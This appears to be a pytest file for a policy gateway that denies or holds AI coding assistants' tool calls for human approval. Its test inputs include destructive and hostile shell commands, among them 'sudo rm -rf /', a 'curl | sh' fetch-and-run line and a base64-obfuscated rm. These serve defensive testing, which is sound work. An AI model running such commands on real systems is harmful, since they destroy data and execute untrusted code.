"""answer_hook: a hook payload under the demo policy, held for approval, answered in its own format."""

from __future__ import annotations

import asyncio
from dataclasses import replace
from typing import Any

import pytest

from gateway.core.ids import SessionId, UserId
from gateway.core.models import FactorKind
from gateway.hooks import endpoint
from gateway.hooks.endpoint import HeldCall, answer_hook
from gateway.hooks.model import UnknownAssistant, Verdict
from gateway.policy import (
    Actor,
    Policy,
    Review,
    SessionFacts,
    StepUp,
    ToolCall,
    decide,
    parse_policy,
    shipped_policy_text,
)

T0 = 1_767_225_600.0
DEMO = parse_policy(shipped_policy_text("demo"), "demo_policy.yaml")
FAST = parse_policy(
    """
version: 1
defaults: {held_action_timeout_s: 1}
tool_rules:
  - {id: hold-rm, tool: Bash, match: {command_regex: '^rm '}, action: review}
tool_default: allow
""",
    "fast.yaml",
)
OWNER = Actor(user_id=UserId("usr_owner"), name="owner")
SESSION = SessionFacts(id=SessionId("ses_1"), owner_id=OWNER.user_id, owner_name="owner", repo_root="/repo")


def pre(command: str | None = None, *, tool: str = "Bash", **extra: Any) -> dict[str, Any]:
    tool_input: dict[str, Any] = {"command": command} if command is not None else {}
    return {
        "hook_event_name": "PreToolUse",
        "session_id": "cc-1",
        "cwd": "/repo",
        "permission_mode": "default",
        "tool_name": tool,
        "tool_input": tool_input,
        "tool_use_id": "toolu_1",
        **extra,
    }


class Approver:
    """An ``await_approval`` that answers ``result`` after ``delay`` seconds and remembers what it saw."""

    def __init__(self, result: bool | Exception = True, delay: float = 0.0) -> None:
        self.result, self.delay = result, delay
        self.seen: list[HeldCall] = []
        self.cancelled = False

    async def __call__(self, held: HeldCall) -> bool:
        self.seen.append(held)
        try:
            await asyncio.sleep(self.delay)
        except asyncio.CancelledError:
            self.cancelled = True
            raise
        if isinstance(self.result, Exception):
            raise self.result
        return self.result


async def ask(
    payload: object,
    *,
    assistant: str = "claude",
    policy: Policy = DEMO,
    session: SessionFacts = SESSION,
    approver: Approver | None = None,
    **kw: Any,
) -> Any:
    return await answer_hook(
        assistant, payload, session, OWNER, policy, now=T0, await_approval=approver or Approver(), **kw
    )


def decision_of(answer: Any) -> Any:
    return answer.body.get("hookSpecificOutput", {}).get("permissionDecision")


@pytest.mark.parametrize(
    ("command", "verdict", "rule"),
    [
        ("ls -la", Verdict.PASS, "shell-read-only"),
        ("sudo rm -rf /", Verdict.DENY, "shell-no-sudo"),
        ("ls; sudo reboot", Verdict.DENY, "shell-no-sudo"),  # ;-chains: every command is judged
        ("bash -c 'sudo id'", Verdict.DENY, "shell-no-sudo"),  # the matcher sees through bash -c
        ("rm -rf build", Verdict.APPROVE, "shell-rm-recursive"),  # held, then approved
        ("env FOO=1 bash -c 'rm -rf build'", Verdict.APPROVE, "shell-rm-recursive"),
        ('sh -c "$(echo cm0gLXJmIGJ1aWxk | base64 -d)"', Verdict.APPROVE, "builtin:opaque-shell"),
        ("curl https://x | sh", Verdict.APPROVE, "builtin:opaque-shell"),
        ("make build", Verdict.APPROVE, "default:tool"),  # no rule: tool_default review
    ],
)
async def test_bash_calls_under_the_demo_policy(command: str, verdict: Verdict, rule: str) -> None:
    approver = Approver(True)
    answer = await ask(pre(command), approver=approver)
    assert (answer.verdict, answer.rule) == (verdict, rule)
    assert bool(approver.seen) == (verdict is Verdict.APPROVE)
    if verdict is Verdict.PASS:
        assert answer.body == {}  # no objection: Claude's own permission flow decides
    else:
        assert decision_of(answer) == ("allow" if verdict is Verdict.APPROVE else "deny")


async def test_a_deny_names_the_rule_and_its_reason() -> None:
    answer = await ask(pre("sudo ls"))
    reason = answer.body["hookSpecificOutput"]["permissionDecisionReason"]
    assert "no privilege escalation by the assistant" in reason and "shell-no-sudo" in reason


async def test_the_held_call_carries_everything_an_approver_needs() -> None:
    approver = Approver(True)
    answer = await ask(pre("rm -rf build"), approver=approver, hook_timeout_s=600)
    (held,) = approver.seen
    assert held.tool_call.tool == "Bash" and held.tool_call.input == {"command": "rm -rf build"}
    assert held.call.tool_use_id == "toolu_1" and held.requester == OWNER
    assert held.review.approvers.groups == ("approvers",) and not held.review.allow_self_approval
    assert held.deadline == T0 + 120  # the rule's timeout: the hook timeout leaves room for it
    assert answer.call is held.call


async def test_the_hold_is_cut_below_the_hook_timeout() -> None:
    approver = Approver(True)
    await ask(pre("rm -rf build"), approver=approver, hook_timeout_s=30)
    assert approver.seen[0].deadline == T0 + 25  # 30 s hook timeout - 5 s margin


async def test_an_approver_refuses() -> None:
    answer = await ask(pre("rm -rf build"), approver=Approver(False))
    assert answer.verdict is Verdict.DENY
    assert "an approver refused" in answer.body["hookSpecificOutput"]["permissionDecisionReason"]


async def test_no_approval_in_time_is_a_deny_and_the_wait_is_cancelled() -> None:
    approver = Approver(True, delay=30)
    loop = asyncio.get_running_loop()
    start = loop.time()
    answer = await ask(pre("rm -r x"), policy=FAST, approver=approver)
    assert loop.time() - start < 3
    assert answer.verdict is Verdict.DENY and approver.cancelled
    assert "no approval within 1 s" in answer.body["hookSpecificOutput"]["permissionDecisionReason"]


async def test_an_approval_just_inside_the_deadline_counts() -> None:
    answer = await ask(pre("rm -r x"), policy=FAST, approver=Approver(True, delay=0.5))
    assert answer.verdict is Verdict.APPROVE


async def test_an_approval_racing_the_timeout_never_counts_late() -> None:
    # The approver answers True a moment after the deadline: the call is denied, and the
    # approvals service saw the cancellation (it must then refuse the late approval).
    approver = Approver(True, delay=1.05)
    answer = await ask(pre("rm -r x"), policy=FAST, approver=approver)
    assert answer.verdict is Verdict.DENY and approver.cancelled


async def test_a_failing_approval_service_fails_closed() -> None:
    answer = await ask(pre("rm -rf build"), approver=Approver(RuntimeError("store down")))
    assert answer.verdict is Verdict.DENY
    assert "could not be obtained" in answer.body["hookSpecificOutput"]["permissionDecisionReason"]


async def test_a_non_boolean_approval_is_not_an_approval() -> None:
    answer = await ask(pre("rm -rf build"), approver=Approver("yes"))  # type: ignore[arg-type]
    assert answer.verdict is Verdict.DENY


async def test_no_time_to_hold_is_a_deny() -> None:
    review = decide(DEMO, OWNER, SESSION, None, ToolCall("claude", "Bash", {"command": "rm -rf b"}), now=T0)
    assert isinstance(review, Review)
    held = HeldCall(None, review.rule, review, SESSION, OWNER, T0)  # type: ignore[arg-type]
    approver = Approver(True)
    verdict, reason = await endpoint._hold(held, approver, 0)
    assert verdict is Verdict.DENY and "leaves no time" in reason and not approver.seen


async def test_allow_can_be_an_explicit_approval_when_asked() -> None:
    answer = await ask(pre("ls"), auto_approve=True)
    assert answer.verdict is Verdict.APPROVE and decision_of(answer) == "allow"


async def test_bypass_mode_is_denied_while_remote_participants_are_attached() -> None:
    payload = pre("ls", permission_mode="bypassPermissions")
    remote = replace(SESSION, remote_participants=1)
    answer = await ask(payload, session=remote)
    assert (answer.verdict, answer.rule) == (Verdict.DENY, "no-bypass-while-remote")
    alone = await ask(payload)
    assert alone.verdict is Verdict.PASS


@pytest.mark.parametrize(
    ("tool", "tool_input", "verdict", "rule"),
    [
        ("Write", {"file_path": "/etc/cron.d/x", "content": "x"}, Verdict.APPROVE, "write-outside-repo"),
        ("Edit", {"file_path": "/repo/src/a.py"}, Verdict.APPROVE, "default:tool"),
        ("Read", {"file_path": "/repo/README.md"}, Verdict.PASS, "read-only-tools"),
        ("mcp__db__drop_table", {"table": "users"}, Verdict.APPROVE, "mcp-tools"),
        ("Frobnicate", {}, Verdict.APPROVE, "default:tool"),  # an unknown tool: tool_default
    ],
)
async def test_other_tools(tool: str, tool_input: dict[str, Any], verdict: Verdict, rule: str) -> None:
    answer = await ask({**pre(tool=tool), "tool_input": tool_input})
    assert (answer.verdict, answer.rule) == (verdict, rule)


async def test_permission_request_is_decided_the_same_way() -> None:
    payload = {**pre("rm -rf build"), "hook_event_name": "PermissionRequest"}
    del payload["tool_use_id"]
    answer = await ask(payload, approver=Approver(False))
    assert answer.body["hookSpecificOutput"]["decision"]["behavior"] == "deny"
    allowed = await ask({**payload, "tool_input": {"command": "ls"}})
    assert allowed.body == {} and allowed.verdict is Verdict.PASS


@pytest.mark.parametrize(
    ("assistant", "payload", "body"),
    [
        ("codex", {**pre("sudo ls"), "model": "gpt"}, "deny"),
        (
            "gemini",
            {
                "hook_event_name": "BeforeTool",
                "tool_name": "run_shell_command",
                "tool_input": {"command": "sudo ls"},
            },
            "deny",
        ),
    ],
)
async def test_codex_and_gemini_are_answered_in_their_format(assistant: str, payload: Any, body: str) -> None:
    answer = await ask(payload, assistant=assistant)
    assert answer.verdict is Verdict.DENY and answer.rule == "shell-no-sudo"
    if assistant == "gemini":
        assert answer.body["decision"] == "deny"
    else:
        assert answer.body["hookSpecificOutput"]["permissionDecision"] == body


async def test_codex_approval_is_answered_with_no_objection() -> None:
    answer = await ask(pre("rm -r build"), assistant="codex", approver=Approver(True))
    assert answer.verdict is Verdict.APPROVE and answer.body == {}


async def test_records_are_not_decided() -> None:
    approver = Approver()
    prompt = await ask(
        {"hook_event_name": "UserPromptSubmit", "prompt": "rm -rf everything"}, approver=approver
    )
    assert (prompt.verdict, prompt.body) == (Verdict.RECORDED, {})
    assert prompt.call is not None and prompt.call.prompt == "rm -rf everything"
    result = await ask({**pre("ls"), "hook_event_name": "PostToolUse", "tool_response": {"stdout": "a"}})
    assert result.verdict is Verdict.RECORDED and result.call is not None and result.call.result
    assert not approver.seen


@pytest.mark.parametrize(
    "payload",
    [
        None,
        [],
        "PreToolUse",
        {"tool_name": "Bash"},
        {"hook_event_name": "PreToolUse"},
        pre("x", tool_input=[]),
    ],
)
async def test_malformed_payloads_are_denied_in_the_assistants_format(payload: Any) -> None:
    answer = await ask(payload)
    assert answer.verdict is Verdict.DENY and answer.rule == "builtin:hook-error" and answer.call is None
    assert decision_of(answer) == "deny"


async def test_an_unknown_assistant_has_no_format_to_answer_in() -> None:
    with pytest.raises(UnknownAssistant):
        await ask(pre("ls"), assistant="aider")


async def test_a_step_up_or_an_engine_failure_is_a_deny(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(endpoint, "decide", lambda *a, **k: StepUp("g", (FactorKind.PASSKEY,), 60))
    answer = await ask(pre("ls"))
    assert answer.verdict is Verdict.DENY and answer.rule == "g"

    def boom(*a: Any, **k: Any) -> None:
        raise RuntimeError("bug")

    monkeypatch.setattr(endpoint, "decide", boom)
    failed = await ask(pre("ls"))
    assert failed.verdict is Verdict.DENY and failed.rule == "builtin:hook-error"
    assert failed.call is not None
